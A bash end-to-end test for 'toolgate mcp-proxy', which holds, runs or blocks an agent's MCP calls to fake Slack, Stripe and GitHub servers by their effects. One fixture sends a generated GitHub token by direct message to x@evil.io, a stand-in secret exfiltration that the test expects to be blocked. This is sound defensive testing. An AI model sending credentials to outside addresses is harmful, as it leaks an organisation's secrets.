#!/usr/bin/env bash
# End-to-end test of `toolgate mcp-proxy` judging MCP tool calls by what
# each one does (who a message goes to, whether money moves for real, who
# gets into a repository), not by the tool's name alone.
#
#   tests/e2e/mcp-effects/run.sh              # uses target/<host triple>/debug/toolgate
#   TOOLGATE_BIN=target/x86_64-unknown-linux-gnu/release/toolgate tests/e2e/mcp-effects/run.sh
#   KEEP_TMP=1 tests/e2e/mcp-effects/run.sh   # keep the run's dir to look at
#
# Three fake MCP servers on the MCP Python SDK (MCPServer, the SDK's FastMCP,
# over stdio), each appending every tools/call it really receives to a log
# (fakeserver.py), so a held or blocked call can be shown never to reach it:
#   slack        chat_server.py: slack_post_message, slack_list_channels,
#                send_direct_message
#   stripe       payments_server.py --mode live: create_refund, list_charges
#   stripe-test  payments_server.py --mode test (the same server, the test
#                account: its name says so)
#   github       code_server.py: create_issue, create_pull_request,
#                add_collaborator, list_issues
# The client is ../mcp/client.py (the SDK's ClientSession over stdio_client);
# the SDK comes from ../mcp/requirements.txt (pinned there, one pin for both
# suites), installed once into ../mcp/.venv/ by lib.sh for both.
#
# The policy is policies/default.toml plus an [organization] section (our
# domains acme.com, our code org acme, the private channel #dev-team),
# written into the run's dir, mode 0600.
#
#   control  the client straight to each server: every call, including the
#            ones toolgate must stop, reaches the server and succeeds (so the
#            checks below can fail)
#   held     a direct message to an outside address, a live refund (also
#            with `livemode: false` added, which the server ignores: only its
#            configured name says test), a collaborator added from outside:
#            isError naming a pending approval for exactly that call
#            (--wait 1s), never at the server
#   run      messages inside the organization, listing, a refund on the
#            server configured as stripe-test, issues and a pull request in
#            acme/api: a normal result, at the server
#   block    a GitHub token sent in a direct message to an outside address:
#            isError saying blocked, no approval, never at the server
#   audit    audit verify passes on the data dir, every judged call is in it
#
# MCP_EFFECTS_NO_ORG=1 drops the [organization] section, for developing the
# harness against a toolgate that does not know it yet; such a run always
# fails (it checks nothing about the organization).
set -uo pipefail

here="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"
root="$(cd "$here/../../.." && pwd)"
# shellcheck source=../lib.sh
source "$here/../lib.sh"

bin="${TOOLGATE_BIN:-target/$(rustc --print host-tuple)/debug/toolgate}"
[[ "$bin" == /* ]] || bin="$root/$bin"
if [[ ! -x "$bin" ]]; then
  echo "run.sh: no toolgate binary at $bin: build it (cargo build -p toolgate) or set TOOLGATE_BIN" >&2
  exit 2
fi
command -v python3 >/dev/null 2>&1 || { echo "run.sh: python3 is missing" >&2; exit 2; }
if ! "$bin" mcp-proxy --help >/dev/null 2>&1; then
  echo "run.sh: $bin has no working \`mcp-proxy\` subcommand" >&2
  exit 2
fi
client_py="$here/../mcp/client.py"
requirements="$here/../mcp/requirements.txt"
for f in "$client_py" "$requirements"; do
  [[ -f "$f" ]] || { echo "run.sh: $f is missing (this suite shares it with tests/e2e/mcp)" >&2; exit 2; }
done

started=$SECONDS
unset TOOLGATE_POLICY TOOLGATE_DATA_DIR TOOLGATE_URL TOOLGATE_AGENT_TOKEN TOOLGATE_OPERATOR_TOKEN TOOLGATE_SESSION

# --- the MCP Python SDK (client and servers) ------------------------------------
# The MCP Python SDK, pinned in tests/e2e/mcp/requirements.txt (lib.sh).
mcp_sdk_python "$requirements"
echo "run.sh: python mcp $("${py[@]}" -c 'import importlib.metadata as m; print(m.version("mcp"))')," \
  "$("${py[@]}" --version 2>&1), toolgate $("$bin" --version 2>/dev/null)"

# --- the run's dir, cleanup -------------------------------------------------------
work_parent="$(work_root "$here" mcp-effects)" || exit 2
mkdir -p "$work_parent"
work="$(mktemp -d "$work_parent/run.XXXXXX")"
ws="$work/ws"
data="$work/data"
mkdir -p "$ws" "$work/home"
bg_pids=()

cleanup() {
  local status=$?
  local pid
  for pid in "${bg_pids[@]}"; do stop_pid "$pid"; done
  if [[ -n "${KEEP_TMP:-}" ]]; then
    echo "run.sh: kept $work"
  else
    rm -rf "$work"
    rmdir "$work_parent" 2>/dev/null || true
  fi
  exit "$status"
}
trap cleanup EXIT
trap 'exit 130' INT
trap 'exit 143' TERM

# --- helpers ---------------------------------------------------------------------
# pyq FILE EXPR: EXPR evaluated in Python with d = the JSON document in FILE
# (client.py's output) and helpers: step(i), result(i), text(i) (the tool
# result's text), is_error(i), ids(s) (the approval ids in s). Prints strings
# as they are, anything else as JSON; exit 1 when it raises.
pyq() {
  python3 - "$1" "$2" <<'EOF'
import json, re, sys
try:
    d = json.load(open(sys.argv[1]))
except Exception as e:
    print(f"<no JSON: {e}>"); sys.exit(1)
def step(i): return d["steps"][i]
def result(i): return step(i)["result"]
def text(i): return "".join(c.get("text", "") for c in (result(i).get("content") or []))
def is_error(i): return bool(result(i).get("isError"))
def ids(s): return re.findall(r"\b[0-9a-f]{32}\b", s)
try:
    v = eval(sys.argv[2], {"d": d, "step": step, "result": result, "text": text,
                           "is_error": is_error, "ids": ids, "re": re, "json": json})
except Exception as e:
    print(f"<{type(e).__name__}: {e}>"); sys.exit(1)
print(v if isinstance(v, str) else json.dumps(v))
EOF
}
is_true() { [[ "$(pyq "$1" "bool($2)")" == true ]]; }

# reached LOG TOOL ARGS: the fake server logged a tools/call of TOOL with
# exactly the arguments ARGS (JSON).
reached() {
  python3 - "$@" <<'EOF'
import json, sys
log, tool, args = sys.argv[1], sys.argv[2], json.loads(sys.argv[3])
try:
    lines = open(log).read().splitlines()
except FileNotFoundError:
    sys.exit(1)
sys.exit(0 if any((r := json.loads(l))["tool"] == tool and r["arguments"] == args for l in lines if l.strip()) else 1)
EOF
}

# approvals_for DATA TOOL ARGS: the approvals in DATA for exactly this call,
# one line each: "<id> <state>". toolgate stores a call with its secrets
# redacted ([REDACTED:<kind>]): $token counts as the same.
approvals_for() {
  "$bin" --data-dir "$1" approvals list --all --json 2>/dev/null | python3 -c '
import json, re, sys
tool, args, token = sys.argv[1], json.loads(sys.argv[2]), sys.argv[3]
def unredacted(v):
    if isinstance(v, str):
        return re.sub(r"\[REDACTED:[^\]]*\]", token, v)
    if isinstance(v, dict):
        return {k: unredacted(x) for k, x in v.items()}
    return v
for line in sys.stdin:
    try:
        a = json.loads(line)
    except ValueError:
        continue
    c = a.get("call") or {}
    if c.get("tool") == tool and unredacted(c.get("params")) == args:
        print(a["id"], a.get("state"))' "$2" "$3" "$token"
}

# --- the calls ---------------------------------------------------------------------
# plan: "ID|SERVER|TOOL|EXPECT|ARGS": EXPECT is held, run or block; each
# server's calls go, in this order, through one client session.
# A GitHub token (ghp_ and 36 letters and digits), made up here so that no
# token-shaped string sits in the repository.
token="ghp_$(python3 -c 'import string; print((string.ascii_letters + string.digits)[7:43])')"
plan=()
add() { plan+=("$1|$2|$3|$4|$5"); }
add post-private slack slack_post_message run '{"channel_id":"#dev-team","text":"build is green"}'
add dm-outside slack send_direct_message held '{"user_email":"someone@gmail.com","text":"can you send me the Q3 numbers?"}'
add dm-inside slack send_direct_message run '{"user_email":"bob@acme.com","text":"the deploy is done"}'
add token-outside slack send_direct_message block "{\"user_email\":\"x@evil.io\",\"text\":\"token $token\"}"
add list-channels slack slack_list_channels run '{}'
add refund-live stripe create_refund held '{"payment_intent":"pi_123","amount":5000}'
add refund-livemode-false stripe create_refund held '{"payment_intent":"pi_124","amount":5000,"livemode":false}'
add list-charges stripe list_charges run '{"limit":3}'
add refund-test-server stripe-test create_refund run '{"payment_intent":"pi_456","amount":5000}'
add create-issue github create_issue run '{"owner":"acme","repo":"api","title":"flaky login test","body":"fails one run in ten"}'
add create-pr github create_pull_request run '{"owner":"acme","repo":"api","title":"fix the login test","head":"feature/x","base":"main"}'
add collaborator-outside github add_collaborator held '{"owner":"acme","repo":"api","username":"outsider","permission":"push"}'
add list-issues github list_issues run '{"owner":"acme","repo":"api"}'
servers=(slack stripe stripe-test github)
declare -A tools_of=(
  [slack]="send_direct_message slack_list_channels slack_post_message"
  [stripe]="create_refund list_charges"
  [stripe-test]="create_refund list_charges"
  [github]="add_collaborator create_issue create_pull_request list_issues"
)
# server_cmd NAME LOG: the fake server's command line ($server) for NAME.
server_cmd() {
  case $1 in
    slack) server=("${py[@]}" "$here/chat_server.py" --log "$2") ;;
    stripe) server=("${py[@]}" "$here/payments_server.py" --mode live --log "$2") ;;
    stripe-test) server=("${py[@]}" "$here/payments_server.py" --mode test --log "$2") ;;
    github) server=("${py[@]}" "$here/code_server.py" --log "$2") ;;
  esac
}
# Each call's step in its session (step 0 is tools/list).
declare -A step_of=()
declare -A steps_json=()
for s in "${servers[@]}"; do
  n=1
  steps='[{"op":"list_tools"}'
  for p in "${plan[@]}"; do
    IFS='|' read -r id srv tool expect args <<<"$p"
    [[ $srv == "$s" ]] || continue
    steps+=",{\"op\":\"call\",\"tool\":\"$tool\",\"args\":$args}"
    step_of[$id]=$n
    n=$((n + 1))
  done
  steps_json[$s]="$steps]"
done

# session KIND SERVER [PROXY ARGS...]: runs SERVER's calls through client.py,
# straight to the server (KIND control) or through `toolgate mcp-proxy` with
# PROXY ARGS (KIND proxy), from the workspace; leaves $work/KIND-SERVER/
# out.json, err.log and calls.jsonl (the server's log).
session() {
  local kind=$1 s=$2
  shift 2
  local d="$work/$kind-$s"
  mkdir -p "$d"
  : >"$d/calls.jsonl"
  server_cmd "$s" "$d/calls.jsonl"
  local cmd=("${server[@]}")
  [[ $kind == proxy ]] && cmd=("$bin" --data-dir "$data" mcp-proxy --name "$s" "$@" -- "${server[@]}")
  local t0=$EPOCHREALTIME st
  (cd "$ws" && HOME="$work/home" XDG_STATE_HOME="$work/home/.state" \
    timeout 60 "${py[@]}" "$client_py" "${steps_json[$s]}" -- "${cmd[@]}" >"$d/out.json" 2>"$d/err.log")
  st=$?
  echo "      ($kind-$s: client exit $st, $(python3 -c "print(round(($EPOCHREALTIME - $t0) * 1000))") ms)"
  [[ $st -eq 0 ]] || tail -n 6 "$d/err.log" | sed 's/^/      | /'
  return "$st"
}
# sessions KIND [PROXY ARGS...]: `session` for the four servers at once;
# their client exit statuses in $status_of.
declare -A status_of=()
sessions() {
  local kind=$1 s
  shift
  declare -A pid_of=()
  for s in "${servers[@]}"; do
    session "$kind" "$s" "$@" &
    pid_of[$s]=$!
    bg_pids+=("$!")
  done
  for s in "${servers[@]}"; do
    wait "${pid_of[$s]}"
    status_of[$s]=$?
  done
}

# --- the policy ----------------------------------------------------------------------
policy="$work/policy.toml"
org_section='
# The organization this suite works for: where a message, money or access
# stays inside and where it leaves.
[organization]
domains = ["acme.com"]
code_orgs = ["acme"]
private_channels = ["#dev-team"]'
{
  cat "$root/policies/default.toml"
  if [[ "${MCP_EFFECTS_NO_ORG:-}" == 1 ]]; then
    printf '\n# [organization] dropped: MCP_EFFECTS_NO_ORG=1\n'
  else
    printf '%s\n' "$org_section"
  fi
} >"$policy"
# Not writable by anyone else (a policy the agent could change is no gate).
chmod 600 "$policy"
if [[ "${MCP_EFFECTS_NO_ORG:-}" == 1 ]]; then
  fail "setup: MCP_EFFECTS_NO_ORG=1: the policy has no [organization] section (harness development only; this run checks nothing about the organization)"
fi
policy_ok=yes
if out=$("$bin" policy check "$policy" 2>&1); then
  pass "setup: toolgate policy check accepts policy.toml (policies/default.toml$([[ "${MCP_EFFECTS_NO_ORG:-}" == 1 ]] || echo " + [organization]"))"
else
  policy_ok=no
  fail "setup: toolgate policy check refuses policy.toml (policies/default.toml + [organization])" "$out"
fi

# --- preflight: what `toolgate check` says about each call (for the reports) ---------
declare -A verdict=()
if [[ $policy_ok == yes ]]; then
  for p in "${plan[@]}"; do
    IFS='|' read -r id srv tool expect args <<<"$p"
    verdict[$id]=$(printf '{"tool":"mcp__%s__%s","params":%s,"cwd":"%s"}' "$srv" "$tool" "$args" "$ws" |
      HOME="$work/home" "$bin" check --stateless --policy "$policy" 2>&1 |
      python3 -c 'import json,sys
try:
    d = json.load(sys.stdin); print(d["decision"], d.get("risk"), "-", d.get("reason"))
except Exception as e:
    print("<no decision>")')
    printf '      check %-22s expect %-5s toolgate check: %s\n' "$id" "$expect" "${verdict[$id]:0:160}"
  done
fi

# --- control: the client straight to each server --------------------------------------
sessions control
for s in "${servers[@]}"; do
  st=${status_of[$s]}
  o="$work/control-$s/out.json"
  bad=()
  for p in "${plan[@]}"; do
    IFS='|' read -r id srv tool expect args <<<"$p"
    [[ $srv == "$s" ]] || continue
    i=${step_of[$id]}
    is_true "$o" "step($i)['ok'] and not is_error($i) and '\"fake\"' in text($i)" &&
      reached "$work/control-$s/calls.jsonl" "$tool" "$args" || bad+=("$id")
  done
  names=$(pyq "$o" '" ".join(sorted(t["name"] for t in result(0)["tools"]))')
  if [[ $st -eq 0 && ${#bad[@]} -eq 0 && "$names" == "${tools_of[$s]}" ]]; then
    pass "control: $s: tools/list is [$names] and every call (held and blocked ones too) reaches the fake server and succeeds without toolgate"
  else
    fail "control: $s: without toolgate the fake server did not take every call: ${bad[*]:-} (the checks below would prove nothing)" \
      "tools: [$names]; $(head -c 600 "$o") $(tail -n 5 "$work/control-$s/err.log")"
  fi
done

if [[ $policy_ok != yes ]]; then
  echo "      the proxy sessions are not run: toolgate does not load the policy"
  summary "toolgate mcp-proxy judging MCP calls by their effects"
fi

# --- through the proxy ------------------------------------------------------------------
# A held call waits --wait 1s for an operator, then comes back as an error
# naming its approval, which stays pending.
sessions proxy --policy "$policy" --wait 1s

names_differ=()
for s in "${servers[@]}"; do
  direct=$(pyq "$work/control-$s/out.json" '" ".join(sorted(t["name"] for t in result(0)["tools"]))')
  via=$(pyq "$work/proxy-$s/out.json" '" ".join(sorted(t["name"] for t in result(0)["tools"]))')
  [[ ${status_of[$s]} -eq 0 && "$direct" == "$via" ]] || names_differ+=("$s: [$via]")
done
if [[ ${#names_differ[@]} -eq 0 ]]; then
  pass "proxy: a session through toolgate mcp-proxy starts for each of the four servers and tools/list is the direct one"
else
  fail "proxy: the session through the proxy failed or listed other tools" "${names_differ[*]}"
fi

for p in "${plan[@]}"; do
  IFS='|' read -r id s tool expect args <<<"$p"
  i=${step_of[$id]}
  o="$work/proxy-$s/out.json"
  log="$work/proxy-$s/calls.jsonl"
  at_server=no
  reached "$log" "$tool" "$args" && at_server=yes
  approvals=$(approvals_for "$data" "mcp__${s}__$tool" "$args")
  said=$(pyq "$o" '" ".join(text('"$i"').split())[:400]')
  what="$s $tool $args"
  why="toolgate check: ${verdict[$id]:-?}; reached the server: $at_server; approvals: ${approvals:-none}; the proxy answered: $said"
  case $expect in
    held)
      id_in_text=$(pyq "$o" '(ids(text('"$i"')) or [""])[0]')
      if [[ $at_server == no && -n "$id_in_text" ]] && grep -qx "$id_in_text pending" <<<"$approvals" &&
        is_true "$o" "step($i)['ok'] and is_error($i) and re.search(r'approv|escalat', text($i), re.I)"; then
        pass "held: $what: isError naming approval $id_in_text (pending, for exactly this call), never reached the server"
      else
        fail "held: $what was not held" "$why"
      fi
      ;;
    run)
      if [[ $at_server == yes && -z "$approvals" ]] &&
        is_true "$o" "step($i)['ok'] and not is_error($i) and '\"fake\"' in text($i)"; then
        pass "run: $what: reached the server, a normal result came back"
      else
        fail "run: $what did not run" "$why"
      fi
      ;;
    block)
      if [[ $at_server == no && -z "$approvals" ]] &&
        is_true "$o" "step($i)['ok'] and is_error($i) and 'TOOLGATE_BLOCK|' in text($i)
          and re.search(r'\\bblock', text($i), re.I) and not ids(text($i))"; then
        pass "block: $(sed "s/$token/ghp_…/" <<<"$what"): isError saying blocked (no approval asked), never reached the server"
      else
        fail "block: $(sed "s/$token/ghp_…/" <<<"$what") was not blocked" "$(sed "s/$token/ghp_…/g" <<<"$why")"
      fi
      ;;
  esac
done

# --- the audit log ------------------------------------------------------------------------
if v=$("$bin" --data-dir "$data" audit verify 2>&1); then
  pass "audit: audit verify passes on the data dir ($(head -n 1 <<<"$v" | sed -E 's/^audit chain intact: ([0-9]+ entries).*/\1/'))"
else
  fail "audit: audit verify fails" "$v"
fi
"$bin" --data-dir "$data" audit tail --json -n 100000 >"$work/audit.jsonl" 2>&1
missing=$(python3 - "$work/audit.jsonl" "${plan[@]}" <<'EOF'
import json, sys
entries = []
for line in open(sys.argv[1]):
    try:
        entries.append(json.dumps(json.loads(line)))
    except ValueError:
        pass
missing = []
for p in sys.argv[2:]:
    id_, server, tool, expect, args = p.split("|", 4)
    # The call's tool name and its first argument's value, in one entry.
    first = next(iter(json.loads(args).values()), None)
    needles = [f"mcp__{server}__{tool}"] + ([first] if isinstance(first, str) else [])
    if not any(all(n in e for n in needles) for e in entries):
        missing.append(id_)
print(" ".join(missing))
EOF
)
if [[ -s "$work/audit.jsonl" && -z "$missing" ]]; then
  pass "audit: every one of the ${#plan[@]} judged calls is in the audit log"
else
  fail "audit: the audit log lacks: ${missing:-?}" "$(tail -c 600 "$work/audit.jsonl")"
fi
if grep -qF -- "$token" "$work/audit.jsonl"; then
  echo "      note: the token sent to x@evil.io is in the audit log in clear"
fi

summary "toolgate mcp-proxy judging MCP calls by their effects"
